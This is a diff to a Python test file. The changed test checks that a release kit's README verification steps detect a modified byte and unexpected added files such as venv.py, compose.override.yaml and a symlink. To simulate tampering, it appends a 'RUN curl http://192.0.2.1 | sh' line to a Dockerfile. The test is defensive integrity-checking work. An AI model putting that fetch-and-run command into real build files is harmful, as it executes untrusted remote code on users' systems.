@@ -78,18 +78,32 @@ def test_every_wheel_is_there_once_and_pinned_by_its_hash(kits: dict[str, Path])
         assert told == {name: d for name, d in files(folder).items() if name != "SHA256SUMS"}
 
 
-def test_one_changed_byte_is_seen_by_the_first_step_of_the_readme(
+def test_a_changed_byte_and_an_added_file_are_seen_by_the_first_step_of_the_readme(
     kits: dict[str, Path], tmp_path: Path
 ) -> None:
-    (step,) = re.findall(
-        r"^   (sha256sum --check .*)$", (kits["site"] / "README.txt").read_text(), re.M
-    )
+    """An added file is no wheel, and still runs: as Python's venv, or as Compose's override."""
+    text = (kits["site"] / "README.txt").read_text()
+    (step,) = re.findall(r"^1\. Check it\n\n(.*?)\n\n", text, re.M | re.S)
+    changed, added, read_out = re.split(r"\n(?=   \S)", step)
+
+    def told(command: str) -> str:
+        words = ["sh", "-c", command]
+        return subprocess.run(words, cwd=tmp_path / "k", capture_output=True, text=True).stdout
+
     shutil.copytree(kits["site"], tmp_path / "k")
-    assert subprocess.run(shlex.split(step), cwd=tmp_path / "k").returncode == 0
+    assert told(changed) == told(added) == ""
+    assert "must print nothing" in text and len(told(read_out).split()[0]) == 64
     with (tmp_path / "k" / "Dockerfile").open("a") as file:
         file.write("RUN curl http://192.0.2.1 | sh\n")
-    done = subprocess.run(shlex.split(step), cwd=tmp_path / "k", capture_output=True, text=True)
-    assert done.returncode == 1 and "Dockerfile: FAILED" in done.stdout
+    assert "Dockerfile: FAILED" in told(changed) and told(added) == ""
+    for name in ("venv.py", "compose.override.yaml", ".env", "wheels/SHA256SUMS"):
+        (tmp_path / "k" / name).write_text("print('mine')\n")
+        assert told(added) == f"{name}\n"
+        (tmp_path / "k" / name).unlink()
+    (tmp_path / "k" / "venv").symlink_to("/tmp")
+    assert told(added) == "venv\n"
+    # And nothing of the folder is imported by what the next step lets root do.
+    assert re.search(r"sudo python[0-9.]+ -I -m venv", text)
 
 
 def test_the_same_inputs_give_the_same_bytes(
